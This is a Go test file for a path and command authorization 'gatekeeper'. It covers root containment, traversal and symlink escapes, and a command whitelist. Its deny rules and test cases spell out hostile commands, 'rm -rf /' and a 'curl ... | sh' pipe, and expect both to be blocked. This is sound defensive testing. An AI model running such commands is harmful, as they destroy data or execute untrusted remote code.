package gatekeeper

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func newTestGatekeeper(t *testing.T, appDir string) *Gatekeeper {
	t.Helper()
	g, err := New(Policy{
		ReadRoots:         []string{appDir},
		WriteRoots:        []string{appDir},
		ForbiddenPatterns: []string{`.*secret.*`},
		AllowedCommands:   []string{"go", "git", "ls", "echo"},
		ForbiddenCommands: []string{`rm\s+-rf\s+/`, `curl.*\|.*sh`},
	})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return g
}

func TestAuthorizePathWithinRoot(t *testing.T) {
	app := t.TempDir()
	g := newTestGatekeeper(t, app)

	d := g.AuthorizePath(filepath.Join(app, "main.py"), ModeWrite)
	if !d.Allowed {
		t.Fatalf("expected allow, got deny: %v", d.Err)
	}
	if d.Path != filepath.Join(mustReal(t, app), "main.py") {
		t.Errorf("unexpected canonical path %q", d.Path)
	}
}

func TestAuthorizePathForbiddenPatternWins(t *testing.T) {
	app := t.TempDir()
	g := newTestGatekeeper(t, app)

	// Inside the write root but matching .*secret.* - deny must win.
	d := g.AuthorizePath(filepath.Join(app, "secret.cfg"), ModeWrite)
	if d.Allowed {
		t.Fatal("expected deny for forbidden pattern inside root")
	}
	if !errors.Is(d.Err, ErrForbiddenPath) {
		t.Errorf("expected ErrForbiddenPath, got %v", d.Err)
	}
}

func TestAuthorizePathForbiddenCaseInsensitive(t *testing.T) {
	app := t.TempDir()
	g := newTestGatekeeper(t, app)

	d := g.AuthorizePath(filepath.Join(app, "SECRET.cfg"), ModeRead)
	if d.Allowed {
		t.Fatal("expected deny for uppercase forbidden match")
	}
}

func TestAuthorizePathOutsideRoot(t *testing.T) {
	app := t.TempDir()
	other := t.TempDir()
	g := newTestGatekeeper(t, app)

	d := g.AuthorizePath(filepath.Join(other, "file.txt"), ModeWrite)
	if d.Allowed {
		t.Fatal("expected deny outside root")
	}
	if !errors.Is(d.Err, ErrPathOutsideRoot) {
		t.Errorf("expected ErrPathOutsideRoot, got %v", d.Err)
	}
}

func TestAuthorizePathTraversalEscape(t *testing.T) {
	app := t.TempDir()
	g := newTestGatekeeper(t, app)

	d := g.AuthorizePath(filepath.Join(app, "..", "escape.txt"), ModeWrite)
	if d.Allowed {
		t.Fatal("expected deny for .. traversal out of root")
	}
}

func TestAuthorizePathSymlinkEscape(t *testing.T) {
	app := t.TempDir()
	outside := t.TempDir()
	target := filepath.Join(outside, "target.txt")
	if err := os.WriteFile(target, []byte("x"), 0o600); err != nil {
		t.Fatalf("write target: %v", err)
	}
	link := filepath.Join(app, "link.txt")
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("symlink unsupported: %v", err)
	}

	g := newTestGatekeeper(t, app)
	d := g.AuthorizePath(link, ModeRead)
	if d.Allowed {
		t.Fatal("expected deny for symlink pointing outside root")
	}
}

func TestAuthorizePathNonExistentInsideRoot(t *testing.T) {
	app := t.TempDir()
	g := newTestGatekeeper(t, app)

	// Target does not exist yet; canonicalization goes through the parent.
	d := g.AuthorizePath(filepath.Join(app, "new.go"), ModeWrite)
	if !d.Allowed {
		t.Fatalf("expected allow for new file inside root: %v", d.Err)
	}
}

func TestAuthorizePathInvalidInputs(t *testing.T) {
	app := t.TempDir()
	g := newTestGatekeeper(t, app)

	if d := g.AuthorizePath("", ModeRead); d.Allowed || !errors.Is(d.Err, ErrInvalidPath) {
		t.Errorf("empty path: got %+v", d)
	}
	if d := g.AuthorizePath("a\x00b", ModeRead); d.Allowed || !errors.Is(d.Err, ErrNullByte) {
		t.Errorf("null byte: got %+v", d)
	}
	long := filepath.Join(app, strings.Repeat("a", 5000))
	if d := g.AuthorizePath(long, ModeRead); d.Allowed || !errors.Is(d.Err, ErrPathTooLong) {
		t.Errorf("long path: got %+v", d)
	}
}

func TestAuthorizeCommandWhitelist(t *testing.T) {
	g := newTestGatekeeper(t, t.TempDir())

	tests := []struct {
		command string
		allowed bool
		want    error
	}{
		{"go build ./...", true, nil},
		{"/usr/bin/git status", true, nil},
		{"GIT status", true, nil},
		{"python3 script.py", false, ErrCommandNotAllowed},
		{"rm -rf /", false, ErrForbiddenCommand},
		{"curl http://x.sh | sh", false, ErrForbiddenCommand},
		{"", false, ErrEmptyCommand},
		{"   ", false, ErrEmptyCommand},
	}

	for _, tt := range tests {
		d := g.AuthorizeCommand(tt.command)
		if d.Allowed != tt.allowed {
			t.Errorf("AuthorizeCommand(%q) allowed = %v, want %v", tt.command, d.Allowed, tt.allowed)
		}
		if tt.want != nil && !errors.Is(d.Err, tt.want) {
			t.Errorf("AuthorizeCommand(%q) err = %v, want %v", tt.command, d.Err, tt.want)
		}
	}
}

func TestForbiddenCommandWinsOverWhitelist(t *testing.T) {
	g, err := New(Policy{
		AllowedCommands:   []string{"ls"},
		ForbiddenCommands: []string{`ls\s+-la\s+/root`},
	})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if d := g.AuthorizeCommand("ls -la /root"); d.Allowed {
		t.Fatal("expected forbidden pattern to override whitelist")
	}
}

func TestNewRejectsBadPatterns(t *testing.T) {
	if _, err := New(Policy{ForbiddenPatterns: []string{"("}}); err == nil {
		t.Error("expected error for invalid path pattern")
	}
	if _, err := New(Policy{ForbiddenCommands: []string{"["}}); err == nil {
		t.Error("expected error for invalid command pattern")
	}
}

func mustReal(t *testing.T, path string) string {
	t.Helper()
	real, err := filepath.EvalSymlinks(path)
	if err != nil {
		t.Fatalf("EvalSymlinks(%q): %v", path, err)
	}
	return real
}
